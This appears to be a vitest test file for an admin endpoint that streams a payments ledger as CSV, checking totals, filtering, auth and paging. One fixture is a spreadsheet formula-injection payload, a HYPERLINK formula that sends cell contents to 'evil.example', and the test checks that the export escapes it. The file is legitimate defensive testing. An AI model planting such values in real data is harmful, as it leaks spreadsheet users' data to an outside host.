import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { paymentKey } from '../../../shared/db/index.ts';
import type { LedgerMovement } from '../../../shared/db/ledger-export.ts';
import { formatMoney, parseMoney } from '../../../shared/money.ts';
import { admin, VIEWER } from '../../../test/support/admin.ts';
import { parseCsv } from '../../../test/support/csv.ts';
import { openHarness, postTask, runningTask, waitFor, type Harness } from '../../../test/support/harness.ts';
import { expectProblem } from '../../../test/support/problem.ts';
import { csvBody, LEDGER_COLUMNS } from './admin.ledger.ts';

const HOSTILE_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"open")';

/**
 * GET /admin/ledger.csv (issue 8): every ledger movement — time, tenant, task, company, kind, amount,
 * payment key, issuer charge id, refund id — in booking order, streamed page by page; its sums are
 * the books' and the dashboard's figures.
 */
describe('GET /admin/ledger.csv', () => {
  let h: Harness;
  let ledgerCount = 0;

  beforeAll(async () => {
    // Half the records arrive incomplete and are partly refunded: captures and refunds in the books.
    h = await openHarness({ workers: 'all', faults: { detail_partial: 0.5, seed: 2 } });
    const ids = [
      await postTask(h, { theme: 'battery', budget: '40.00', voiceId: 'demo-voice', maxCompanies: 3 }),
      await postTask(h, { theme: 'biotech', budget: '30.00', voiceId: 'demo-voice', maxCompanies: 3 }),
      await postTask(h, { theme: 'solar', budget: '30.00', voiceId: 'demo-voice', maxCompanies: 2 }, { authorization: 'Bearer other-key' }),
    ];
    for (const id of ids) {
      const ended = await waitFor(async () => {
        const t = await h.repos.tasks.get(id);
        return t && ['completed', 'failed', 'cancelled'].includes(t.status) ? t : undefined;
      }, `task ${id} to end`, 60_000);
      expect(ended.status).toBe('completed');
    }
    // A release, and a company id from a marketplace that writes formulas, booked on a task of their own.
    const fixture = await runningTask(h, { id: randomUUID(), tenant: 'acme', theme: 'fixture', budgetLimit: 5_000 });
    const movements: number[] = [];
    for (const [company, amount] of [[HOSTILE_COMPANY, 700], ['C-released', 300]] as const) {
      const resource = `/company/detail?id=${encodeURIComponent(company)}`;
      const r = await h.repos.payments.reserve({ taskId: fixture, companyId: company, tenant: 'acme', resource, amount, key: paymentKey(fixture, resource) });
      if (r.kind !== 'reserved') throw new Error('fixture not reserved');
      movements.push(...r.ledgerEntryIds);
      const settled = company === HOSTILE_COMPANY ? await h.repos.payments.capture(r.payment.id, 'ch-fixture') : await h.repos.payments.release(r.payment.id, 'not needed');
      movements.push(...settled!.ledgerEntryIds);
    }
    await h.producer.dashboard(movements);
    const ledger = await h.database.db.selectFrom('ledger_entries').select('id').execute();
    ledgerCount = ledger.length;
    // Finance compares with the dashboard: wait until it has counted every movement.
    await waitFor(async () => ((await h.repos.payments.unappliedLedger(0, 1)).length === 0 ? true : undefined), 'the dashboard to count every movement', 30_000);
  }, 120_000);
  afterAll(async () => h?.close());

  async function csv(query = '', as = VIEWER): Promise<{ res: Response; header: string[]; rows: Record<string, string>[] }> {
    const res = await admin(h, `/admin/ledger.csv${query}`, { as });
    expect(res.status).toBe(200);
    const [header, ...lines] = parseCsv(await res.text());
    return { res, header: header!, rows: lines.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i]!]))) };
  }
  const total = (rows: Record<string, string>[], kind: string) => rows.filter((r) => r.kind === kind).reduce((s, r) => s + parseMoney(r.amount), 0);

  it('streams every movement in booking order as CSV, with the books of every task', async () => {
    const { res, header, rows } = await csv();
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="ledger.csv"');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(header).toEqual([...LEDGER_COLUMNS]);
    expect(rows).toHaveLength(ledgerCount);
    const ids = rows.map((r) => Number(r.ledger_id));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    expect(new Set(rows.map((r) => r.kind))).toEqual(new Set(['reserve', 'capture', 'release', 'refund']));

    const tasks = await h.database.db.selectFrom('tasks').selectAll().execute();
    for (const t of tasks) {
      const mine = rows.filter((r) => r.task_id === t.id);
      expect(mine.every((r) => r.tenant === t.tenant && r.currency === 'CNY')).toBe(true);
      expect({ captured: total(mine, 'capture'), refunded: total(mine, 'refund'), released: total(mine, 'release'), reserved: total(mine, 'reserve') }).toEqual({
        captured: t.captured,
        refunded: t.refunded,
        released: t.released,
        reserved: t.reserved + t.captured + t.released,
      });
    }
    // Each row as the ledger booked it, with the payment's key and the issuer's ids.
    const payments = await h.database.db.selectFrom('payments').selectAll().execute();
    for (const r of rows) {
      const p = payments.find((x) => x.idempotency_key === r.payment_key)!;
      expect(p).toBeDefined();
      expect(r.company_id === p.company_id || r.company_id === `'${p.company_id}`).toBe(true);
      expect(r.charge_id).toBe(p.charge_id ?? '');
      if (r.kind === 'refund') expect(r.refund_id).toMatch(/\S/);
      else expect(r.refund_id).toBe('');
      expect(Number.isNaN(Date.parse(r.booked_at))).toBe(false);
    }
  });

  it('its sums are the figures the dashboard shows, day by day, for every tenant and for one', async () => {
    for (const tenant of [undefined, 'acme', 'other']) {
      const { rows } = await csv(tenant ? `?tenant=${tenant}` : '');
      if (tenant) expect(rows.every((r) => r.tenant === tenant)).toBe(true);
      const dashboard = (await (await admin(h, `/admin/dashboard.json${tenant ? `?tenant=${tenant}` : ''}`, { as: VIEWER })).json()) as any;
      expect(dashboard.daily.length).toBeGreaterThan(0);
      for (const day of dashboard.daily) {
        const that = rows.filter((r) => r.booked_at.slice(0, 10) === day.day);
        expect({ reserved: formatMoney(total(that, 'reserve')), captured: formatMoney(total(that, 'capture')), released: formatMoney(total(that, 'release')), refunded: formatMoney(total(that, 'refund')) }).toEqual({
          reserved: day.reserved,
          captured: day.captured,
          released: day.released,
          refunded: day.refunded,
        });
      }
      const days = new Set(dashboard.daily.map((d: { day: string }) => d.day));
      expect(rows.every((r) => days.has(r.booked_at.slice(0, 10)))).toBe(true);
    }
  });

  it('a period: from inclusive, to exclusive, in booking time; a period with nothing is the header alone', async () => {
    const { rows } = await csv();
    // Rows booked in one transaction share its instant: the period's ends are two distinct instants.
    const instants = [...new Set(rows.map((r) => r.booked_at))].sort();
    expect(instants.length).toBeGreaterThan(3);
    const from = instants[1]!;
    const to = instants[Math.min(instants.length - 1, 4)]!;
    const expected = rows.filter((r) => r.booked_at >= from && r.booked_at < to).map((r) => r.ledger_id);
    const period = await csv(`?from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`);
    expect(period.rows.map((r) => r.ledger_id)).toEqual(expected);
    expect(period.res.headers.get('content-disposition')).toBe(`attachment; filename="ledger_${from.slice(0, 10)}_${to.slice(0, 10)}.csv"`);
    const none = await csv('?from=2099-01-01');
    expect(none.rows).toEqual([]);
    expect(none.header).toEqual([...LEDGER_COLUMNS]);
  });

  it("a company id that a spreadsheet would run as a formula is written as text", async () => {
    const text = await (await admin(h, '/admin/ledger.csv', { as: VIEWER })).text();
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const { rows } = await csv();
    expect(rows.filter((r) => r.company_id === `'${HOSTILE_COMPANY}`)).toHaveLength(2);
  });

  it('needs an admin login (finance reads with the read-only one); a bad query is a 400 naming the field', async () => {
    await expectProblem(await admin(h, '/admin/ledger.csv', { as: {} }), 401, 'unauthorized');
    for (const [query, path] of [['tenant=a%20b', 'tenant'], ['from=2030-01-02&to=2030-01-01', 'to'], ['from=soon', 'from'], ['format=xlsx', 'format']]) {
      const problem = await expectProblem(await admin(h, `/admin/ledger.csv?${query}`, { as: VIEWER }), 400, 'validation_failed');
      expect(problem.errors.map((e: { path: string }) => e.path)).toContain(path);
    }
  });

  it('the repository pages by keyset: pages of any size add up to the whole, within the period and tenant', async () => {
    const filter = { tenant: 'acme' };
    const range = await h.repos.ledgerExport.bounds(filter);
    const whole = (await h.repos.ledgerExport.page(filter, range!.first - 1, range!.last, 100_000)).map((m) => m.id);
    for (const size of [1, 2, 3, 7]) {
      const seen: number[] = [];
      for await (const page of h.repos.ledgerExport.pages(filter, range, size)) {
        expect(page.length).toBeLessThanOrEqual(size);
        seen.push(...page.map((m) => m.id));
      }
      expect(seen).toEqual(whole);
    }
    expect(await h.repos.ledgerExport.bounds({ from: new Date('2099-01-01') })).toBeUndefined();
  });

  it('the body is read as the client takes it: a page is fetched only when the one before has been taken, and a client that goes away stops it', async () => {
    let fetched = 0;
    let stopped = false;
    const page = (n: number): LedgerMovement[] => [{ id: n, bookedAt: new Date(0), tenant: 't', taskId: 'x', companyId: 'c', kind: 'capture', amount: 100, currency: 'CNY', paymentKey: 'k', chargeId: null, refundId: null }];
    async function* pages() {
      try {
        for (let n = 1; n <= 1_000_000; n++) {
          fetched++;
          yield page(n);
        }
      } finally {
        stopped = true;
      }
    }
    const reader = csvBody(pages(), h.deps.log).getReader();
    expect(new TextDecoder().decode((await reader.read()).value)).toBe(`${LEDGER_COLUMNS.join(',')}\r\n`);
    await reader.read();
    await reader.read();
    // Three chunks taken (the header, two pages); at most one more page is read ahead, never the million.
    expect(fetched).toBeLessThanOrEqual(3);
    await reader.cancel();
    expect(stopped).toBe(true);
  });
});
